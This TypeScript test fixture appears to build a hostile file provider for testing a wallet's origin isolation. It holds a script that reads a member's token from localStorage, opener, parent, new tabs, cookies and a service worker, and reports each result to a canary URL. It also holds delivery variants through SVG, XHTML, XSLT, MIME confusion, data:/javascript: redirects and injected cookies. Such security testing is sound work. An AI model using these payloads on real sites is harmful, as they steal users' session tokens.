import type { IncomingMessage, ServerResponse } from 'node:http'
import { openProvider } from './nginx.ts'

export const TOKEN = 'token-of-the-member'

/**
 * A script that searches for the token in every way that a page of the same origin has. It reports each result to the
 * provider before the page has loaded. It has no < and no &, because it is also put into XML.
 */
const theft = `
  const ways = {
    storage: () => localStorage.getItem('token'),
    opener: () => opener.localStorage.getItem('token'),
    parent: () => parent === self ? 'none' : parent.localStorage.getItem('token'),
    tab: () => { const tab = open('/'); try { return tab.localStorage.getItem('token') } finally { tab.close() } },
    cookies: () => document.cookie,
    worker: () => (navigator.serviceWorker.register('/api/worker.js', { scope: '/' }), 'asked for'),
  }
  for (const [way, steal] of Object.entries(ways)) {
    let got
    try { got = steal() } catch (error) { got = error.name }
    const request = new XMLHttpRequest()
    request.open('GET', 'CANARY?' + encodeURIComponent(way + ': ' + got), false)
    try { request.send() } catch {}
  }`
const html = `<!doctype html><title>x</title><script>${theft}</script>`
const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[${theft}]]></script></html>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${theft}]]></script></svg>`
const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${theft.replaceAll('>', '&gt;')}</script></html></xsl:template></xsl:stylesheet>`
const styled = (href: string) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${href}"?><a/>`

interface Answer {
  status?: number
  type?: string
  body?: string
  headers?: Record<string, string | string[]>
}
const own = "script-src * 'unsafe-inline' 'unsafe-eval'; sandbox allow-scripts allow-same-origin"
const page: Answer = { type: 'text/html', body: html }
const pageWith = (headers: Answer['headers']) => ({ ...page, headers })
const redirectTo = (location: string, status = 302) => ({ status, headers: { location } })

/** Answers of a provider that was broken into, or that serves files of other people, in the origin of the wallet. */
export const answers: Record<string, Answer> = {
  html: page,
  svg: { type: 'image/svg+xml', body: svg },
  xhtml: { type: 'application/xhtml+xml', body: xhtml },
  xml: { type: 'text/xml', body: xhtml },
  xslt: { type: 'text/xml', body: styled('/api/sheet.xsl') },
  'xslt of data': { type: 'text/xml', body: styled(`data:text/xml,${encodeURIComponent(sheet)}`) },
  'no type': { body: html },
  'an unknown type': { type: 'x/y', body: html },
  'a picture that is a page': { type: 'image/png', body: html },
  'json that is a page': { type: 'application/json', body: html },
  'an error page': { ...page, status: 500 },
  'a page not found': { ...page, status: 404, type: 'text/html; charset=utf-7' },
  'a policy of its own': pageWith({ 'content-security-policy': own, 'x-content-type-options': 'sniff' }),
  'cookies of its own': pageWith({
    'set-cookie': ['token=evil; Path=/', `__Host-x=${TOKEN}`, 'locale=xx; Path=/; HttpOnly'],
  }),
  'a script to load first': pageWith({
    link: '</api/html>; rel=preload; as=script, </api/html>; rel=stylesheet',
  }),
  'data as the next address': redirectTo(`data:text/html,${encodeURIComponent(html)}`),
  'a script as the next address': redirectTo(`javascript:${encodeURIComponent(theft)}`),
  'itself as the next address': redirectTo('/media/html', 307),
  'a wish that the browser forget': {
    type: 'image/gif',
    body: 'GIF89a',
    headers: { 'clear-site-data': '"storage"' },
  },
}

const helpers: Record<string, Answer> = {
  canary: {},
  'worker.js': {
    type: 'text/javascript',
    body: "fetch('/api/canary?worker:%20runs')",
    headers: { 'service-worker-allowed': '/' },
  },
  'sheet.xsl': { type: 'text/xml', body: sheet },
}

function say(request: IncomingMessage, response: ServerResponse, answer: Answer) {
  const { status = 200, type, body = '', headers = {} } = answer
  // Use the address of the browser, because a data: page has no address.
  const canary = `http://${request.headers['x-forwarded-host']}/api/canary`
  const filled = (text: string) => text.replaceAll('CANARY', canary)
  const { location, ...others } = headers
  response
    .writeHead(status, {
      ...(type && { 'content-type': type }),
      ...(location && { location: filled(`${location}`) }),
      ...others,
    })
    .end(filled(body))
}

/** Answers `/any/NAME` with the answer of this name, and `/any/elsewhere` with a redirect to `elsewhere`. */
export async function openHostileProvider(elsewhere: string) {
  const provider = await openProvider((request, response, { path }) => {
    const name = decodeURIComponent(path.split('/')[2] ?? '').split('?')[0] ?? ''
    if (name === 'elsewhere') say(request, response, redirectTo(elsewhere, 307))
    else say(request, response, helpers[name] ?? answers[name] ?? page)
  })
  return {
    ...provider,
    /** Returns the reports of its scripts since the last call. */
    takeReports: () =>
      provider.calls
        .splice(0)
        .flatMap(({ path }) => path.split('/api/canary?')[1] ?? [])
        .map(decodeURIComponent),
  }
}
